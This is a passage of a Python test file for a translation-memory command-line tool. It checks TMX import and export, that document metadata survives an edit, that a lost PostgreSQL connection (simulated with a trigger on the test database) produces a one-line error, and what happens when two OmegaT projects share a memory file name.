    assert texts[5][1] == {"ru": "Только & по-русски."} and texts[6][1] == {"kk": ""}


def test_a_lost_postgres_connection_is_one_line(postgres_url: str, tmp_path: Path) -> None:
    """The driver's own warning about closing its pipeline on a dead connection is not
    printed beside tm's error: one line on stderr. (The server ends the connection from a
    trigger in the middle of a bulk insert.)"""
    import subprocess
    import sys

    tm = TM(postgres_url)
    tm.init()
    with tm.engine.begin() as conn:
        from sqlalchemy import text

        conn.execute(text("CREATE FUNCTION tm_test_hang_up() RETURNS trigger LANGUAGE plpgsql AS "
                          "$$ BEGIN PERFORM pg_terminate_backend(pg_backend_pid()); RETURN NEW; END $$"))
        conn.execute(text("CREATE TRIGGER hang_up BEFORE INSERT ON variant FOR EACH ROW "
                          "EXECUTE FUNCTION tm_test_hang_up()"))
    path = tmp_path / "lost.tmx"
    path.write_text('<tmx version="1.4"><header/><body>' + "".join(
        f'<tu><tuv xml:lang="en"><seg>Unit {k}</seg></tuv></tu>' for k in range(600)) + "</body></tmx>",
        encoding="utf-8")
    for _ in range(6):  # (where the server's hang-up reaches the driver varies from run to run)
        done = subprocess.run([sys.executable, "-m", "tm", "--db", postgres_url, "import", "tmx", str(path)],
                              capture_output=True, text=True, timeout=120)
        assert done.returncode == 2
        assert done.stderr.startswith("tm: error: ") and len(done.stderr.strip().splitlines()) == 1, done.stderr


def test_editing_a_letter_through_tmx_keeps_its_metadata(reader: str, tm: TM, tmp_path: Path) -> None:
    import_letter(tm, LETTER)
    before = tm.document("ablyazov-duvanov-2")
    out = tmp_path / "letter.tmx"
    export_tmx(tm, out)
    text = out.read_text(encoding="utf-8")
    first = next(v.text for u in iter_units(tm) for lang, v in u.variants.items() if lang == "en")
    out.write_text(text.replace(f"<seg>{first}</seg>", "<seg>Edited in a CAT tool.</seg>", 1), encoding="utf-8")
    result = import_tmx(tm, out, replace=True)
    assert [(r.doc_id, r.replaced) for r in result.results] == [("ablyazov-duvanov-2", True)]
    after = tm.document("ablyazov-duvanov-2")
    kept = ("titles", "date", "author", "addressee", "source", "notes")
    assert {k: getattr(after, k) for k in kept} == {k: getattr(before, k) for k in kept}
    assert after.author == "Mukhtar Ablyazov" and after.titles["kk"].startswith("Мұхтар")
    assert "Edited in a CAT tool." in [v.text for u in iter_units(tm) for v in u.variants.values()]


def test_a_second_file_of_the_same_name_suggests_doc_as_well_as_replace(run, tmp_path: Path) -> None:
    """OmegaT names every project's memory project_save.tmx: the second one may be another
    project, which --replace would overwrite."""
    for project in ("one", "two"):
        folder = tmp_path / project
        folder.mkdir()
        (folder / "project_save.tmx").write_text(
            f'<tmx version="1.4"><header/><body><tu><tuv xml:lang="en"><seg>{project}</seg></tuv></tu></body></tmx>',
            encoding="utf-8")
    assert run("import", "tmx", str(tmp_path / "one" / "project_save.tmx")).exit_code == 0
    again = run("import", "tmx", str(tmp_path / "two" / "project_save.tmx"))
    assert again.exit_code == 2 and "--doc" in again.stderr and "--replace" in again.stderr
    assert len(again.stderr.strip().splitlines()) == 1
